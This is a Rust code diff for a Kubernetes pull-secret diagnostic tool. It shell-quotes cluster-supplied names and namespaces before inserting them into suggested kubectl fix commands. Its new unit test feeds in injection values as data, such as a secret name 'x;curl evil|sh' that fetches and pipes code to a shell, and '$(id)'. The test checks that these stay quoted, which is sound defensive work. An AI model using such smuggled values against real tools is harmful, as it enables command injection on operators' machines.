@@ -10,6 +10,7 @@ use serde::Serialize;
 use super::admission::{self, PullSecretSource};
 use super::image::ImageRef;
 use super::kubelet::{Credential, KeyEntry, Keyring, SecretProblem};
+use super::text::shell_quote;
 
 /// What the kubelet would find for one Secret that exists (a missing one has no state).
 #[derive(Debug, Clone)]
@@ -317,14 +318,13 @@ pub(crate) fn is_auth_failure(message: &str, image: &str) -> bool {
 
 /// The one-line fix for a verdict; `target` is `kind/name` as kubectl spells it.
 pub(crate) fn fix(verdict: &Verdict, image: &str, target: &str, namespace: &str) -> Option<String> {
+    // Every value comes from the cluster: quoted, so a pasted fix runs only what it says.
     let host = ImageRef::parse(image)
         .map(|i| i.domain)
         .unwrap_or_else(|_| "REGISTRY".into());
-    let server = if host == "docker.io" {
-        "docker.io".to_string()
-    } else {
-        host
-    };
+    let server = shell_quote(&host);
+    let (target, namespace) = (shell_quote(target), shell_quote(namespace));
+    let first = |secrets: &[String]| shell_quote(&secrets[0]).into_owned();
     Some(match verdict {
         Verdict::Ok { .. } => return None,
         Verdict::Anonymous => format!(
@@ -338,19 +338,21 @@ pub(crate) fn fix(verdict: &Verdict, image: &str, target: &str, namespace: &str)
         Verdict::SecretMissing { secrets } => {
             format!(
                 "kubectl regcred create {} --server {server} -n {namespace}",
-                secrets[0]
+                first(secrets)
             )
         }
         Verdict::SecretMalformed { secret, .. } => format!(
-            "rewrite it well-formed: kubectl regcred create {secret} --server {server} -n {namespace} --force"
+            "rewrite it well-formed: kubectl regcred create {} --server {server} -n {namespace} --force",
+            shell_quote(secret)
         ),
         Verdict::IdentityTokenOnly { secret, .. } => format!(
-            "use an access token or robot account: kubectl regcred create {secret} --server {server} --username USER --password-stdin -n {namespace} --force"
+            "use an access token or robot account: kubectl regcred create {} --server {server} --username USER --password-stdin -n {namespace} --force",
+            shell_quote(secret)
         ),
         Verdict::SaSecretsIgnored { secrets } | Verdict::NotAttached { secrets } => {
             format!(
                 "kubectl regcred attach {} {target} -n {namespace}",
-                secrets[0]
+                first(secrets)
             )
         }
         Verdict::PodPredatesSa { .. } if target.starts_with("pod/") => {
@@ -405,6 +407,12 @@ pub(crate) fn secret_health(
     account: &str,
     namespace: &str,
 ) -> SecretHealth {
+    let (secret, account_name, ns) = (name, account, namespace);
+    let (name, account, namespace) = (
+        shell_quote(secret),
+        shell_quote(&format!("sa/{account_name}")).into_owned(),
+        shell_quote(ns),
+    );
     let health = |status, detail: String, fix: Option<String>| SecretHealth {
         status,
         detail,
@@ -420,7 +428,7 @@ pub(crate) fn secret_health(
             SecretStatus::SecretMissing,
             format!("the kubelet ignores it: {why}"),
             Some(format!(
-                "kubectl regcred detach {name} sa/{account} -n {namespace}"
+                "kubectl regcred detach {name} {account} -n {namespace}"
             )),
         ),
         Some(SecretState::Malformed(why)) => health(
@@ -578,6 +586,23 @@ mod tests {
             "Failed to pull image \"registry.example.com/team/app:1\": not found",
             &image
         ));
+    }
+
+    /// Values from the cluster go into a suggested command only shell-quoted.
+    #[test]
+    fn fixes_quote_what_the_cluster_wrote() {
+        let verdict = Verdict::SecretMissing {
+            secrets: vec!["x;curl evil|sh".into()],
+        };
+        assert_eq!(
+            fix(&verdict, "quay.io/a/b:1", "deployment/web", "team-a").unwrap(),
+            "kubectl regcred create 'x;curl evil|sh' --server quay.io -n team-a"
+        );
+        let health = secret_health("$(id)", None, "default", "team-a");
+        assert_eq!(
+            health.fix.unwrap(),
+            "kubectl regcred create '$(id)' -n team-a"
+        );
     }
 
     #[test]
